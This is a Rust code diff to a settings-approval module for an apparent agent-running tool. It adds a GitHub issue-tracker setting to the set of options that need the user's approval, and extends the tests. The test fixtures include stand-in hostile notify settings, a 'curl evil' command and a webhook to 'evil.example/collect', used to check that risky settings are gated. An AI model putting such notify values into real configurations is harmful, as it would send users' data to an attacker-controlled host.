@@ -69,7 +69,7 @@ pub fn parts(cfg: &Options) -> Vec<Part> {
             cfg.gate.protect.as_ref().map(|v| json!(v)),
         ),
     ];
-    let last: [(&'static str, Option<Value>); 2] = [
+    let last: [(&'static str, Option<Value>); 3] = [
         // Runs an agent, and keeps "done" honest: a session that drops or
         // softens it must not get its way.
         (
@@ -83,6 +83,11 @@ pub fn parts(cfg: &Options) -> Vec<Part> {
         // must not choose either. URLs are secrets: shown by host, approved
         // by their digest.
         ("[notify]", notify_part(&cfg.notify)),
+        // Calls GitHub with your token, and closes issues there.
+        (
+            "tracker",
+            (cfg.tracker == Some(crate::work::tracker::Kind::Github)).then(|| json!("github")),
+        ),
     ];
     // (The order is the digest's: an approval given before stays good.)
     first
@@ -889,7 +894,7 @@ mod tests {
         assert_eq!(
             judge(
                 &parts(&cfg(
-                    "max_iterations = 5\ntimeout = \"1h\"\nmodel = \"m\"\n"
+                    "max_iterations = 5\ntimeout = \"1h\"\nmodel = \"m\"\ntracker = \"br\"\n"
                 )),
                 &[]
             ),
@@ -907,6 +912,7 @@ mod tests {
             "[review]\nagent = \"codex\"\n",
             "[notify]\ncommand = \"curl evil\"\n",
             "[notify]\nslack = \"https://evil.example/collect\"\n",
+            "tracker = \"github\"\n",
         ] {
             let c = parts(&cfg(text));
             assert_eq!(
